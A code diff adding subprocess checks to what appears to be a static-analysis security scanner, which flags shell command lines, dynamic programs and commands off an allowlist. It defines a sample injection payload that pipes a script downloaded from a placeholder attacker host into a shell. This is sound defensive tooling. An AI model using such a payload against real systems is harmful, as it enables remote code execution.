@@ -1,0 +1,165 @@
+/** subprocess: shells, dynamic programs, programs off the allowlist. */
+import { classifyCommand } from '../../policy/commands.js';
+import type { Action } from '../../policy/types.js';
+import type { Value } from '../facts.js';
+import { constString, dictGet, sanitizersOf, skeleton } from '../values.js';
+import { calleeText, fillHoles, quote, severityForTaint, taintPhrase, traceOf } from './common.js';
+import type { Check, CheckContext, SinkHit } from './types.js';
+
+export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
+
+/** How a call spawns a process, read from the sink's `with` hints and the call's arguments. */
+export interface SpawnShape {
+  /** the whole command line, when it goes through a shell */
+  line?: Value;
+  /** argv form: the program and its arguments */
+  program?: Value;
+  args: Value[];
+  /** whether `shell` is enabled: true, false, or unknown (a dynamic flag) */
+  shell: boolean | 'unknown';
+}
+
+function listItems(v: Value | undefined): Value[] | undefined {
+  return v && v.kind === 'list' ? v.items : undefined;
+}
+
+export function spawnShape(hit: SinkHit): SpawnShape {
+  const w = hit.sink.with ?? {};
+  const call = hit.call;
+  const main = hit.value;
+  let shell: boolean | 'unknown' = false;
+  if (w.shell === true) shell = true;
+  if (typeof w.shellKeyword === 'string') {
+    const flag = call.kwargs[w.shellKeyword];
+    if (flag) shell = flag.kind === 'const' ? !!flag.value : 'unknown';
+  }
+  if (typeof w.optionsIndex === 'number') {
+    // JS: the options object is at optionsIndex, or earlier when the args array is omitted
+    const candidates = [call.args[w.optionsIndex], call.args[w.optionsIndex - 1]];
+    for (const c of candidates) {
+      const flag = dictGet(c, 'shell');
+      if (flag) shell = flag.kind === 'const' ? (typeof flag.value === 'string' ? true : !!flag.value) : 'unknown';
+    }
+  }
+  if (shell === true) {
+    const items = listItems(main);
+    return { line: items ? items[0] : main, args: [], shell };
+  }
+  const items = listItems(main);
+  if (items) return { program: items[0], args: items.slice(1), shell };
+  if (typeof w.argsIndex === 'number') {
+    const argv = listItems(call.args[w.argsIndex]);
+    if (argv) return { program: main, args: argv, shell };
+    const rest = w.argsRest ? call.args.slice(w.argsIndex) : [];
+    return { program: main, args: rest, shell };
+  }
+  return { program: main, args: [], shell };
+}
+
+function constArgs(values: Value[]): string[] | undefined {
+  const out: string[] = [];
+  for (const v of values) {
+    const s = constString(v);
+    if (s === undefined) return undefined;
+    out.push(s);
+  }
+  return out;
+}
+
+function allowlistActive(ctx: CheckContext): string[] | null {
+  if (ctx.config.commands.allow !== null) return ctx.config.commands.allow;
+  return ctx.config.policy === 'strict' || ctx.config.policy === 'audit' ? [] : null;
+}
+
+/** Commands run through a shell, or through a program that is a shell, wrapper or inline interpreter. */
+export const commandShell: Check = {
+  kind: 'sink',
+  judge(hit, ctx) {
+    const shape = spawnShape(hit);
+    const callee = calleeText(ctx, hit.call);
+    if (shape.line) {
+      const v = shape.line;
+      const sk = skeleton(v);
+      const taints = ctx.untrusted(v);
+      const action: Action = { kind: 'exec', command: fillHoles(v, COMMAND_PAYLOAD) ?? COMMAND_PAYLOAD, shell: true };
+      if (sk && sk.holes.length === 0) {
+        return { message: `\`${callee}\` runs ${quote(sk.text)} through a shell; pass an argv list without a shell, or run it through the kernel.`, severity: 'low', action };
+      }
+      const quoted = sanitizersOf(v).includes('shell-quoted');
+      const from = taints.length ? taintPhrase(taints) : 'dynamic values';
+      return {
+        message: `\`${callee}\` runs a shell command line built from ${from}${quoted ? ' (shell-quoted)' : ''}; pass an argv list without a shell instead.`,
+        severity: quoted ? 'medium' : severityForTaint(taints, ctx.rule.severity),
+        trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
+        action,
+      };
+    }
+    if (shape.shell === 'unknown') {
+      return { message: `\`${callee}\` may run its command through a shell (the \`shell\` option is dynamic).`, severity: 'medium' };
+    }
+    const program = constString(shape.program);
+    if (program === undefined) return undefined;
+    const args = shape.args.map((a) => fillHoles(a, COMMAND_PAYLOAD) ?? COMMAND_PAYLOAD);
+    const verdict = classifyCommand({ command: program, args }, null);
+    if (verdict.allowed || verdict.problem === 'empty') return undefined;
+    const known = constArgs(shape.args);
+    const taints = shape.args.flatMap((a) => ctx.untrusted(a));
+    const action: Action = { kind: 'exec', command: program, args };
+    if (known) {
+      return { message: `\`${callee}\` starts ${quote([program, ...known].join(' '))}: ${verdict.reason ?? 'a shell'}`, severity: 'low', action };
+    }
+    return {
+      message: `\`${callee}\` starts \`${program}\` with dynamic arguments: ${verdict.reason ?? 'a shell or interpreter'}`,
+      severity: severityForTaint(taints, ctx.rule.severity),
+      trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
+      action,
+    };
+  },
+};
+
+/** argv-form spawns whose program is not a constant, or whose arguments come from untrusted data. */
+export const commandDynamic: Check = {
+  kind: 'sink',
+  judge(hit, ctx) {
+    const shape = spawnShape(hit);
+    if (shape.line || shape.shell !== false) return undefined;
+    const callee = calleeText(ctx, hit.call);
+    const program = constString(shape.program);
+    if (program === undefined) {
+      if (!shape.program) return undefined;
+      const taints = ctx.untrusted(shape.program);
+      return {
+        message: `\`${callee}\` starts a program whose name is ${taints.length ? `taken from ${taintPhrase(taints)}` : 'not a constant'}; run a fixed program from an allowlist.`,
+        severity: severityForTaint(taints, ctx.rule.severity),
+        trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
+        action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
+      };
+    }
+    const taints = shape.args.flatMap((a) => ctx.untrusted(a));
+    if (!taints.length) return undefined;
+    return {
+      message: `\`${callee}\` passes ${taintPhrase(taints)} as arguments to \`${program}\` outside the kernel; validate them (no leading \`-\`) or run the command through the kernel.`,
+      severity: 'medium',
+      trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
+    };
+  },
+};
+
+/** Constant programs that are not on `commands.allow` (when an allowlist is configured, or in strict). */
+export const commandAllowlist: Check = {
+  kind: 'sink',
+  judge(hit, ctx) {
+    const allow = allowlistActive(ctx);
+    if (allow === null) return undefined;
+    const shape = spawnShape(hit);
+    if (shape.line) return undefined; // the shell rule reports it
+    const program = constString(shape.program);
+    if (program === undefined) return undefined;
+    const verdict = classifyCommand({ command: program, args: constArgs(shape.args) ?? [] }, allow);
+    if (verdict.allowed || verdict.problem !== 'not-allowlisted') return undefined;
+    return {
+      message: `\`${calleeText(ctx, hit.call)}\` starts \`${program}\`, which is not in \`commands.allow\` (${allow.length ? allow.join(', ') : 'empty'}).`,
+      action: { kind: 'exec', command: program, args: constArgs(shape.args) ?? [] },
+    };
+  },
+};
